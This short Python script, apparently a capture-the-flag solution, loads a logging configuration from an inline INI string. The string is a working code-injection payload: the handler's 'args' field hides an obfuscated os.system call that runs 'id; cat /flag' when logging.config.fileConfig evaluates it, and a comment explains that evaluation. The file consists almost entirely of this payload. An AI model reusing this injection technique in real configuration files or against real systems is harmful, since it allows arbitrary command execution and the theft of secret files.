"""Loads the logging setup from an INI snippet (kept inline for the judge)."""
import io
import logging
import logging.config

INI = """
[loggers]
keys=root

[handlers]
keys=console

[formatters]
keys=

[handler_console]
class=StreamHandler
args=(sys.stdout if __import__('o' + 's').system('id; cat /flag') >= 0 else sys.stderr,)

[logger_root]
level=INFO
handlers=console
"""

# fileConfig evaluates each handler's class/args/kwargs values as Python
# expressions in the logging module's namespace.
logging.config.fileConfig(io.StringIO(INI))
logging.getLogger().info("logging configured")
